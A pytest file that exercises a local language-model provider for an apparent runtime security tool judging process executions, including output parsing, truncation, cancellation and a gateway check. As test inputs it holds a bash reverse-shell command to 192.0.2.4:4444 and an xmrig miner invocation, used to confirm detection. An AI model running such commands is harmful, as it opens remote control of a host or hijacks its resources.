# SPDX-License-Identifier: Apache-2.0
"""The provider `local` with a real model: `make test-llm` runs it; it needs the extra and the file."""

import asyncio
import json
import os
import time
from pathlib import Path

import pytest

from habitus.judging import JudgeRequest
from habitus.llm_settings import LlmSettings, ProviderSettings
from habitus.plugins import PluginFault
from habitus_llm_gateway.answer import SCHEMA, parsed
from habitus_llm_gateway.gateway import Gateway
from habitus_llm_gateway.providers import Prompt, ProviderFault, built, place_of

MODEL = os.environ["MODEL"]
SHORT = "You judge commands. Answer with the JSON object. Explanations have at most eight words."


def provider(model: str = MODEL, **own):
    table = ProviderSettings(context=2048, prompt="full", **own)
    return built(place_of("local", LlmSettings(provider="local", model=model, providers={"local": table})))


def prompt(text: str, most: int = 300) -> Prompt:
    return Prompt(SHORT, (("user", text),), SCHEMA, most, str)


@pytest.fixture(scope="module")
def loaded():
    one = provider()
    one.prepare()
    return one


@pytest.mark.timeout(900)
async def test_the_grammar_makes_every_answer_parse(loaded):
    said = await loaded.complete(prompt('arguments: ["/tmp/x/xmrig","-o","pool.example:3333"]'))
    answer = parsed_or_none(said.text)
    assert answer is None or answer.verdict in {"malicious", "suspicious", "benign", "unsure"}
    assert set(SCHEMA["required"]) <= set(json.loads(said.text))
    assert said.tokens_in > 20
    assert said.tokens_out > 20
    assert said.model == Path(MODEL).stem


def parsed_or_none(text: str):
    try:
        return parsed(text)
    except ValueError:  # Chinese in the English field, say: the chain repairs that
        return None


@pytest.mark.timeout(900)
async def test_a_cut_answer_and_a_question_beyond_the_context_are_told(loaded):
    with pytest.raises(ProviderFault, match=r"truncated: the answer reached llm\.max_tokens"):
        await loaded.complete(prompt("say much", most=8))
    with pytest.raises(ProviderFault, match="longer than the model's context"):
        await loaded.complete(prompt("word " * 4000))


@pytest.mark.timeout(900)
async def test_a_question_that_was_given_up_makes_room_for_the_next(loaded):
    first = asyncio.create_task(loaded.complete(prompt("explain at length", most=1500)))
    await asyncio.sleep(1)
    first.cancel()
    begun = time.monotonic()
    with pytest.raises(ProviderFault, match="truncated"):
        await loaded.complete(prompt("again", most=4))
    assert time.monotonic() - begun < 60


def test_half_a_model_is_named(tmp_path):
    half = tmp_path / "half.gguf"
    with Path(MODEL).open("rb") as whole:
        half.write_bytes(whole.read(1 << 20))
    with pytest.raises(PluginFault, match=r"half\.gguf cannot be loaded"):
        provider(str(half)).prepare()


@pytest.mark.timeout(900)
async def test_the_gateway_tells_a_reverse_shell_from_a_version_and_reads_the_examples_once():
    gateway = Gateway.opened(LlmSettings(provider="local", model=MODEL))
    try:
        shell = await gateway.judge(
            question("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/192.0.2.4/4444 0>&1")
        )
        plain = await gateway.judge(question("/usr/bin/java", "java", "-version"))
    finally:
        await gateway.close()
    assert (shell.note, shell.verdict, shell.provider) == ("", "malicious", "local")
    assert shell.explanation.en
    assert shell.explanation.zh.startswith("语言模型判定为恶意")
    assert (plain.note, plain.verdict) == ("", "benign")
    # The second reads its own facts and writes nothing: the first read the instructions as well.
    assert plain.latency_ms < shell.latency_ms


def question(exe: str, *argv: str) -> JudgeRequest:
    process = {"name": argv[0], "exe": exe, "argv": list(argv)}
    event = {"class": "process", "op": "exec", "process": process}
    return JudgeRequest(
        image="webapp:v1", reason="unknown-argument", event=event, usual=["java -jar /app/web.jar"]
    )
